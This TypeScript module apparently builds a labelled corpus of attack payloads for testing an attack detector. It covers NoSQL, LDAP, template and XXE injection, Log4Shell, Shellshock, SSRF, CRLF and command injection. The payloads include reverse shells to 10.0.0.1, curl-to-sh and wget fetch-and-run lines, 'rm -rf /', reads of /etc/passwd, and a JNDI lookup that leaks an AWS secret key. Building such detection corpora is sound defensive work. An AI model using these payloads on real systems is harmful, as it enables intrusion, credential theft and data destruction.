import type { AttackType } from '../../lib/types';
import type { AttackCase } from './dev-attacks';

/**
 * Attacks written from the grammar of each target interpreter, for types the dev corpus lacks or has few
 * of. Each family combines a few building blocks so the cases vary in syntax, not just in literal text.
 */
function cross(...lists: string[][]): string[] {
  return lists.reduce<string[]>((acc, list) => acc.flatMap((a) => list.map((b) => a + b)), ['']);
}

const NOSQLI = [
  ...cross(['{"$ne": ', '{"$gt": ', '{"$regex": ', '{"$nin": ', '{"$exists": '], ['null}', '""}', '".*"}', '[]}', 'true}']),
  '{"username": {"$ne": null}, "password": {"$ne": null}}',
  '{"$where": "this.password.length > 0"}',
  '{"$where": "sleep(5000) || true"}',
  '{"$expr": {"$gt": ["$balance", 0]}}',
  '{"$or": [{"a": 1}, {"b": {"$gt": ""}}]}',
  "'; return this.password.match(/^a/) && '1'=='1",
  "' || '1'=='1",
  "admin' && this.role == 'admin' && 'a'=='a",
  '"; while(true){}; var x="',
  "1; return true",
  '[$ne]=1',
  'username[$regex]=^adm&password[$ne]=x',
  '{"$function": {"body": "function() { return true }", "args": [], "lang": "js"}}',
  '{"$lookup": {"from": "users", "localField": "a", "foreignField": "b", "as": "c"}}',
  "db.users.find({$where: function() { return true; }})",
  "this.constructor.constructor('return process')().exit()",
];

const LDAPI = [
  ...cross(['*)(', '*))(|(', ')(|(', '*)(&('], ['uid=*', 'cn=*', 'objectClass=*', 'userPassword=*', 'mail=*@*'], [')', '))', ')(|(uid=*']),
  'admin)(&)',
  'admin)(!(&(1=0)',
  '*)(uid=*))(|(uid=*',
  '(&(objectClass=user)(|(cn=*)(sn=*)))',
  'x*)(|(password=*))',
  '*)%00',
  'admin*)((|userpassword=*)',
  '(|(objectclass=*)(cn=admin))',
  '*(|(mail=*))',
];

/**
 * Each engine's opener with its own closer: crossing openers and closers independently produced
 * `{{7*7}` or `@(config}}`, which no engine evaluates (Jinja/Twig/Handlebars reject the unclosed `{{`).
 */
const SSTI_DELIMITERS: ReadonlyArray<readonly [string, string]> = [
  ['{{', '}}'], ['${', '}'], ['#{', '}'], ['<%= ', ' %>'], ['{{= ', '}}'], ['[[${', '}]]'], ['@(', ')'],
];
const SSTI_BODIES = ['7*7', "7*'7'", 'config', 'self.__init__.__globals__', "request.application.__globals__.__builtins__.__import__('os').popen('id').read()", 'T(java.lang.Runtime).getRuntime().exec("id")', "''.__class__.__mro__[1].__subclasses__()"];

const SSTI = [
  ...SSTI_DELIMITERS.flatMap(([open, close]) => SSTI_BODIES.map((body) => `${open}${body}${close}`)),
  '{% import os %}{{ os.system("id") }}',
  '{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}',
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }',
  '#set($x = $class.inspect("java.lang.Runtime").type.getRuntime().exec("id"))',
  '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}',
  '{php}echo `id`;{/php}',
  '{{range.constructor("return global.process.mainModule.require(\'child_process\').execSync(\'id\')")()}}',
  "*{T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())}",
];

const XXE = [
  ...cross(['<?xml version="1.0"?>', ''], ['<!DOCTYPE r [<!ENTITY x SYSTEM "', '<!DOCTYPE r [<!ENTITY % x SYSTEM "', '<!DOCTYPE r SYSTEM "', '<!DOCTYPE r PUBLIC "-//A//B" "'],
    ['file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'php://filter/convert.base64-encode/resource=index.php', 'expect://id', 'jar:file:///tmp/a.zip!/x', 'netdoc:/etc/passwd'], ['">]><r>&x;</r>', '"> %x;]><r/>', '"><r/>']),
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
  '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>',
  '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///c:/windows/win.ini">]><a>&b;</a>',
];

const LOG4SHELL_CORE = ['jndi:ldap://attacker.example/a', 'jndi:rmi://10.0.0.5:1099/x', 'jndi:dns://x.example/a', 'jndi:ldaps://a.example/b', 'jndi:iiop://a.example/b', 'jndi:corba://a/b', 'jndi:nis://a/b', 'jndi:nds://a/b', 'jndi:http://a.example/b'];

function log4shellVariants(): string[] {
  const out: string[] = [];
  for (const core of LOG4SHELL_CORE) {
    out.push(`\${${core}}`);
    out.push(`\${${core.replace('jndi', '${lower:j}ndi')}}`);
    out.push(`\${${core.replace('jndi', '${::-j}${::-n}${::-d}${::-i}')}}`);
    out.push(`\${${core.replace('ldap', '${lower:l}${lower:d}a${lower:p}').replace('rmi', '${upper:r}mi').replace('dns', '${env:X:-d}ns')}}`);
    out.push(`\${\${env:BARFOO:-j}ndi\${env:BARFOO:-:}${core.slice(5)}}`);
    out.push(`\${j\${k8s:k5:-ND}i${core.slice(4)}}`);
    out.push(`\${\${date:'j'}\${date:'n'}\${date:'d'}\${date:'i'}:${core.slice(5)}}`);
    out.push(`\${jndi:${core.slice(5).replace('//', '//${hostName}.')}}`);
    out.push(`\${${core.toUpperCase()}}`);
  }
  out.push('${${::-${::-$${::-j}}}}');
  out.push('${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.a.example/a}');
  out.push('${${sys:os.name:-j}ndi:ldap://a.example/x}');
  out.push('%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fx%7D');
  return out;
}

const SHELLSHOCK = [
  ...cross(['() { :; }; ', '() { :;}; ', '() {:;}; ', '() { _; } >_[$($())] { ', '() { x() { _; }; x() { _; } <<a; }; '], ['/bin/bash -c "id"', 'echo; /bin/cat /etc/passwd', '/usr/bin/wget http://a.example/x -O /tmp/x', 'ping -c 3 10.0.0.1', 'sleep 5']),
  '() { ignored; }; echo Content-Type: text/plain; echo; id',
];

const SSRF_TARGETS = [
  'http://127.0.0.1/admin', 'http://localhost:8080/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  'http://[::1]/', 'http://[::ffff:127.0.0.1]/', 'http://2130706433/', 'http://0x7f000001/', 'http://017700000001/',
  'http://0177.0.0.1/', 'http://0x7f.0x0.0x0.0x1/', 'http://127.1/', 'http://0/', 'http://0.0.0.0:22/',
  'http://metadata.google.internal/computeMetadata/v1/', 'http://169.254.169.254.nip.io/', 'http://[0:0:0:0:0:ffff:a9fe:a9fe]/',
  'gopher://127.0.0.1:6379/_SET%20x%20y', 'dict://127.0.0.1:11211/stats', 'file:///etc/passwd', 'ftp://127.0.0.1/',
  'http://100.100.100.200/latest/meta-data/', 'http://192.168.0.1/', 'http://10.0.0.1:8500/v1/agent/self',
  'http://attacker.example@127.0.0.1/', 'http://127.0.0.1#@example.com/', 'http://①②⑦.⓪.⓪.①/', 'http://127.0.0.1.xip.io/',
  'http://0251.0376.0251.0376/', 'http://2852039166/', 'http://[fd00:ec2::254]/latest/meta-data/', 'ldap://127.0.0.1:389/',
  'jar:http://127.0.0.1!/', 'http://kubernetes.default.svc/api/v1/secrets', 'http://instance-data/latest/',
];

const CRLF = [
  ...cross(['', '/', 'en', 'x'], ['%0d%0a', '%0D%0A', '\r\n', '%0a', '%E5%98%8A%E5%98%8D', '%u000d%u000a', '\\r\\n', '%0d%0a%09'], ['Set-Cookie: sid=attacker', 'Location: http://evil.example/', 'Content-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK', 'X-Injected: 1', '<script>alert(1)</script>']),
  // mail protocol and mail header injection (OWASP testing guide: IMAP/SMTP injection)
  ...cross(['INBOX', '4791', 'user@example.com'], ['%0d%0a', '\r\n'], ['A02 FETCH 1:* BODY[]', 'V101 LOGOUT', 'RCPT TO:<attacker@evil.example>', 'MAIL FROM:<spoof@bank.example>', 'Bcc: list@evil.example']),
];

const CMDI = [
  ...cross(['; ', '| ', '|| ', '&& ', '& ', '`', '$(', '\n', '%0a', "'; ", '"; ', '1;', 'x|'], ['id', 'cat /etc/passwd', 'uname -a', 'wget http://a.example/s -O /tmp/s', 'curl a.example/x|sh', 'nc -e /bin/sh 10.0.0.1 4444', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'ping -c 10 127.0.0.1', 'sleep 10', 'powershell -enc SQBFAFgA', 'type C:\\Windows\\win.ini', 'rm -rf /']),
  '$(cat${IFS}/etc/passwd)',
  ';cat$IFS/etc/passwd',
  '`echo${IFS}aWQ=|base64${IFS}-d|sh`',
  ";{cat,/etc/passwd}",
  "a;c'a't /e'tc'/pa'ss'wd",
  'a;/???/??t /???/p??s??',
  '127.0.0.1 && whoami',
  '| nslookup $(whoami).a.example',
  '; python -c "import os;os.system(\'id\')"',
  '%0aid%0a',
];

const SCANNER = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.0 (compatible; Nikto/2.1.6)', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 zgrab/0.x', 'Wfuzz/3.1.0', 'gobuster/3.6', 'dirbuster', 'Nmap Scripting Engine',
  'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'Acunetix Web Vulnerability Scanner', 'Mozilla/5.0 (compatible; Nessus)', 'feroxbuster/2.10',
  'ffuf/2.1.0', 'OpenVAS', 'Arachni/v1.5', 'w3af.org', 'commix/v3.8', 'Havij', 'jaeles', 'xsser', 'BurpSuite Collaborator', 'Fuzz Faster U Fool v2.0',
];

const OPEN_REDIRECT = [
  '//evil.example', '///evil.example/%2f..', 'https://evil.example', '/\\evil.example', '\\\\evil.example', 'https:evil.example',
  '//evil.example@trusted.example', 'https://trusted.example.evil.example/', '/%09/evil.example', '//%2F%2Fevil.example', 'javascript:alert(1)//',
];

export const GENERATED_FAMILIES: Readonly<Partial<Record<AttackType, readonly string[]>>> = {
  nosqli: NOSQLI,
  ldapi: LDAPI,
  ssti: SSTI,
  xxe: XXE,
  log4shell: log4shellVariants(),
  shellshock: SHELLSHOCK,
  ssrf: SSRF_TARGETS,
  crlf: CRLF,
  cmdi: CMDI,
  scanner: SCANNER,
  open_redirect: OPEN_REDIRECT,
};

export function generatedAttacks(): AttackCase[] {
  const out: AttackCase[] = [];
  for (const [type, list] of Object.entries(GENERATED_FAMILIES)) {
    for (const payload of list ?? []) out.push({ type: type as AttackType, payload, source: `generated:${type}` });
  }
  return out;
}
